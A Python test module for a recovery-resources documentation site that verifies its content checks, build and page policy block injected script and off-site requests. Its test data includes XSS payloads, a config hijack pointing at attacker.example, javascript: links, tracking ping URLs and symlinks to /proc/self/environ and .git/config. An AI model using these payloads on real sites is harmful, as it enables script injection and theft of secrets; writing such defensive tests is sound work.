"""Security (issue #12): contributor text and files can neither run script nor fetch.

Each payload here passed `recovery-site check` and a strict build before the
fix. Checks must report it at its line; the build must fail on it; and with
the checks switched off, the output sanitiser and page policy still keep it
harmless (the browser side is in test_security_browser.py).
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from conftest import TOPIC_YML, fixture_files, mkdocs_build, story_md, write
from selectolax.lexbor import LexborHTMLParser as HTMLParser

from recovery_site.checks import run_checks
from recovery_site.load import load_project
from recovery_site.page_policy import inline_script_hashes, policy_for

STORY = "content/stories/a-story.md"
ARTICLE = "docs/article.md"


def codes_at(root: Path, files: dict[str, str]) -> set[tuple[str, str, int]]:
    write(root, files)
    return {(d.code, d.path, d.line) for d in run_checks(load_project(root))}


# --- finding 1: attribute lists ------------------------------------------------------

CONFIG_HIJACK = (
    'Hidden.\n{: #__config hidden }\n\n{"base":"https://attacker.example/","features":[]}\n'
)


@pytest.mark.parametrize(
    ("body", "line"),
    [
        (CONFIG_HIJACK, 2),
        ("[a link](https://www.samhsa.gov/){: data-preview }\n", 1),
        ('Text.\n{: style="background:url(https://t.example/x.png)" }\n', 2),
        ('[a link](https://www.samhsa.gov/){: ping="https://t.example/log" }\n', 1),
        ("Text.\n{: .not-allowed }\n", 2),
        ('Text.\n{: data-pagefind-meta="title:Call 1-555-0100 now" }\n', 2),
    ],
)
def test_attribute_lists_set_classes_from_the_allow_list_only(
    tmp_path: Path, body: str, line: int
) -> None:
    found = codes_at(tmp_path, {STORY: story_md(body=body)})
    assert ("attribute-list", STORY, 13 + line) in found


def test_an_allowed_class_passes(tmp_path: Path) -> None:
    body = "[Find treatment](https://findtreatment.gov/){: .md-button }\n"
    assert codes_at(tmp_path, {STORY: story_md(body=body)}) == set()


@pytest.mark.parametrize(
    ("body", "line"),
    [
        ('Before.\n\n??? rs-answer "Is this a real person?"\n    Yes.\n', 3),
        ("Before.\n\n!!! md-dialog\n    Text.\n", 3),
        ('Before.\n\n???+ note rs-answer "Q"\n    Text.\n', 3),
    ],
)
def test_admonition_types_are_the_themes_own(tmp_path: Path, body: str, line: int) -> None:
    """A block's type words become classes: ``??? rs-answer`` passed a story's text
    off as one of our FAQ answers, which search indexes as an answer record."""
    found = codes_at(tmp_path, {STORY: story_md(body=body)})
    assert ("admonition-type", STORY, 13 + line) in found


def test_usual_admonitions_pass(tmp_path: Path) -> None:
    body = (
        '!!! warning "Safety"\n    Text.\n\n???+ tip inline end\n    Text.\n\n'
        "??? question\n    Q.\n"
    )
    assert codes_at(tmp_path, {STORY: story_md(body=body)}) == set()


# --- finding 2: articles, includes and files in docs/ ------------------------------


def article(body: str, front: str = "title: An article\n") -> str:
    return f"---\n{front}---\n{body}"


@pytest.mark.parametrize(
    ("files", "expected"),
    [
        ({ARTICLE: article("Hi.\n\n<script>alert(1)</script>\n")}, ("raw-html", ARTICLE, 6)),
        ({ARTICLE: article("Hi.\n{: #__config }\n")}, ("attribute-list", ARTICLE, 5)),
        (
            {"includes/abbreviations.md": "*[MAT]: x\n<img src=x onerror=alert(1)>\n"},
            ("raw-html", "includes/abbreviations.md", 2),
        ),
        (
            {"docs/assets/javascripts/bundle.1234.min.js": "alert(1)"},
            ("shadows-theme-file", "docs/assets/javascripts/bundle.1234.min.js", 1),
        ),
        ({"docs/notes.txt": "x"}, ("unexpected-file", "docs/notes.txt", 1)),
        ({ARTICLE: article("Hi.\n", "template: nowhere.html\n")}, ("unknown-template", ARTICLE, 2)),
        (
            {ARTICLE: article("Hi.\n", "icon: material/nothing\n")},
            ("unsupported-front-matter", ARTICLE, 2),
        ),
        ({ARTICLE: article('Hi.\n\n--8<-- "missing.md"\n')}, ("snippet-include", ARTICLE, 6)),
    ],
)
def test_articles_includes_and_docs_files_are_checked(
    tmp_path: Path, files: dict[str, str], expected: tuple[str, str, int]
) -> None:
    assert expected in codes_at(tmp_path, files)


# --- finding 3: requests to other hosts ----------------------------------------------


@pytest.mark.parametrize(
    ("body", "code", "line"),
    [
        ("![x](https:t.example/p.png)\n", "remote-image", 1),
        ("![x](/\\t.example/x.png)\n", "remote-image", 1),
        ("![x](/&#9;/t.example/x.png)\n", "remote-image", 1),
        ("![x](https://images.example.org/garden.jpg)\n", "remote-image", 1),
        ("![x][pic]\n\n[pic]: //t.example/p.png\n", "remote-image", 1),
        ("- a list item\n\n    <table background=//t.example/x>\n", "raw-html", 3),
        ("- a list item\n\n    <svg><use href=//t.example/s#x></svg>\n", "raw-html", 3),
        ("Text.\n\n```\nnever closed\n\n<input type=image src=//t.example/x>\n", "raw-html", 6),
        ("> [r]: javascript:alert(1)\n>\n> See [r].\n", "unsafe-link", 1),
    ],
)
def test_fetches_from_other_hosts_and_hidden_markup_are_found(
    tmp_path: Path, body: str, code: str, line: int
) -> None:
    assert (code, STORY, 13 + line) in codes_at(tmp_path, {STORY: story_md(body=body)})


def test_local_images_pass(tmp_path: Path) -> None:
    body = "![a garden](../images/garden.png)\n"
    # The picture exists (docs/images/): check now also resolves the link (issue #13).
    files = {STORY: story_md(body=body), "docs/images/garden.png": "a picture"}
    assert not {c for c in codes_at(tmp_path, files)}


# --- finding 4: symbolic links ---------------------------------------------------------


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("docs/env.txt", "/proc/self/environ"),
        ("docs/config.txt", "../.git/config"),
        ("includes/outside.md", "/etc/hostname"),
        ("content/stories/linked.md", "/etc/hostname"),
        ("docs/folder", "/etc"),
    ],
)
def test_symbolic_links_are_errors_and_never_followed(
    tmp_path: Path, link: str, target: str
) -> None:
    write(tmp_path, fixture_files())
    (tmp_path / link).parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, tmp_path / link)
    found = codes_at(tmp_path, {})
    assert ("symlink", link, 1) in found
    result = mkdocs_build(tmp_path)
    assert result.returncode == 1
    assert f"{link}:1:1: error: [symlink]" in result.output
    assert not (tmp_path / "site").exists() or not any((tmp_path / "site").rglob("env.txt"))


# --- the build fails on each, with diagnostics, never a traceback --------------------


@pytest.mark.parametrize(
    "extra",
    [
        {"docs/page.md": article("Hi.\n", "template: nowhere.html\n")},
        {"docs/page.md": article('Hi.\n\n--8<-- "../mkdocs.yml"\n')},
        {"docs/page.md": article("Hi.\n", "icon: material/nothing-here\n")},
    ],
)
def test_front_matter_and_snippets_that_crashed_the_build_are_diagnostics(
    tmp_path: Path, extra: dict[str, str]
) -> None:
    files = {**fixture_files(), **extra}
    files["mkdocs.yml"] = files["mkdocs.yml"].replace(
        "  - toc:\n",
        "  - pymdownx.snippets:\n      base_path: [includes]\n      check_paths: true\n  - toc:\n",
    )
    write(tmp_path, files)
    result = mkdocs_build(tmp_path)
    assert result.returncode == 1
    assert "docs/page.md:" in result.output and "Traceback" not in result.output


# --- article front matter is escaped everywhere it appears -----------------------------


def test_article_front_matter_is_text_in_title_meta_and_navigation(tmp_path: Path) -> None:
    files = fixture_files()
    files["docs/index.md"] = article(
        "# Home\n\nSee the [article](article.md).\n",
        "title: Home\n",
    )
    files[ARTICLE] = article(
        "# Heading\n\nText.\n",
        "title: '</title><script>alert(1)</script>'\ndescription: '\"><script>alert(2)</script>'\n",
    )
    files["mkdocs.yml"] = files["mkdocs.yml"].replace(
        "  - Home: index.md\n", "  - Home: index.md\n  - article.md\n"
    )
    write(tmp_path, files)
    # The checks would stop this (raw HTML): switch them off to test the second lock.
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    import recovery_site.mkdocs.run as plugin

    saved = plugin.run_checks
    plugin.run_checks = lambda project, **options: []
    try:
        build(load_config(str(tmp_path / "mkdocs.yml"), site_dir=str(tmp_path / "site")))
    finally:
        plugin.run_checks = saved
    for page in ("article/index.html", "index.html"):
        html = (tmp_path / "site" / page).read_text(encoding="utf-8")
        tree = HTMLParser(html)
        assert [s for s in tree.css("script") if "alert" in s.text()] == [], page
    tree = HTMLParser((tmp_path / "site/article/index.html").read_text(encoding="utf-8"))
    assert "</title><script>" in tree.css_first("head title").text()
    description = tree.css_first('head meta[name="description"]').attributes["content"]
    assert description.startswith('"><script>')


# --- page policies -----------------------------------------------------------------


def test_every_page_carries_a_policy_that_allows_exactly_its_inline_scripts(
    built_fixture,
) -> None:
    pages = list(built_fixture.site.rglob("*.html"))
    assert pages
    for page in pages:
        html = page.read_text(encoding="utf-8")
        tree = HTMLParser(html)
        policy = tree.css_first('head meta[http-equiv="Content-Security-Policy"]')
        assert policy is not None, page
        content = policy.attributes["content"]
        assert content == policy_for(html.replace(policy.html, ""))
        for needed in ("object-src 'none'", "base-uri 'self'", "default-src 'none'"):
            assert needed in content
        assert "'unsafe-inline'" not in content and "'unsafe-eval'" not in content
        inline = [
            s
            for s in tree.css("script")
            if "src" not in s.attributes
            and s.attributes.get("type") in (None, "", "text/javascript")
        ]
        assert len(inline_script_hashes(html)) == len({s.text() for s in inline})
        # The policy comes before every script it governs.
        first_script = html.find("<script")
        assert html.find("Content-Security-Policy") < first_script
        assert tree.css_first('head meta[name="referrer"]').attributes["content"] == "same-origin"


def test_a_hostile_topic_still_builds_to_harmless_pages_without_checks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = fixture_files()
    files["content/faq/meds.yml"] = TOPIC_YML.replace(
        "answer: Yes, when prescribed. See [the first answer](#what-is-mat).",
        "answer: |\n"
        + "".join(f"      {line}\n" for line in CONFIG_HIJACK.splitlines())
        + "      [x](https://www.samhsa.gov/){: data-preview ping=https://t.example/ }\n",
    )
    write(tmp_path, files)
    monkeypatch.setattr("recovery_site.mkdocs.run.run_checks", lambda project, **options: [])
    from mkdocs.commands.build import build
    from mkdocs.config import load_config

    build(load_config(str(tmp_path / "mkdocs.yml"), site_dir=str(tmp_path / "site")))
    tree = HTMLParser((tmp_path / "site/faq/meds/index.html").read_text(encoding="utf-8"))
    configs = tree.css("#__config")
    assert len(configs) == 1 and configs[0].tag == "script"  # only the theme's own
    article_ = tree.css_first("article")
    for node in article_.css("*"):
        assert not [
            a
            for a in node.attributes
            if a.startswith("data-") and a not in ("data-pagefind-ignore", "data-pagefind-body")
        ]
        assert "ping" not in node.attributes and "hidden" not in node.attributes


def test_only_the_themes_inline_scripts_are_allowed_by_the_policy() -> None:
    """A script a template mistake let content write (a heading that closed <title>)
    gets no hash, so the browser refuses it; the theme's own scripts keep theirs."""
    theme = '__md_scope=new URL(".",location)'
    page = (
        "<html><head><title></title><script>alert(1)</script> - Site</title>"
        f"<script>{theme}</script></head><body></body></html>"
    )
    hashes = inline_script_hashes(page)
    assert len(hashes) == 1
    assert hashes == inline_script_hashes(f"<script>{theme}</script>")


def test_every_inline_script_in_materials_templates_is_known() -> None:
    """THEME_SCRIPTS must follow Material: a script it adds on an upgrade would be
    blocked on every page. Analytics (CSP forbids its requests anyway) and the
    redirect page (no redirects here) are left out on purpose."""
    import material

    from recovery_site.page_policy import THEME_SCRIPTS

    templates = Path(material.__file__).parent / "templates"
    left_out = ("partials/integrations/", "redirect.html")
    for path in templates.rglob("*.html"):
        name = path.relative_to(templates).as_posix()
        if name.startswith(left_out):
            continue
        text = path.read_text(encoding="utf-8")
        for body in re.findall(r"<script>(.*?)</script>", text, re.S):
            assert body.lstrip().startswith(THEME_SCRIPTS), (name, body[:60])
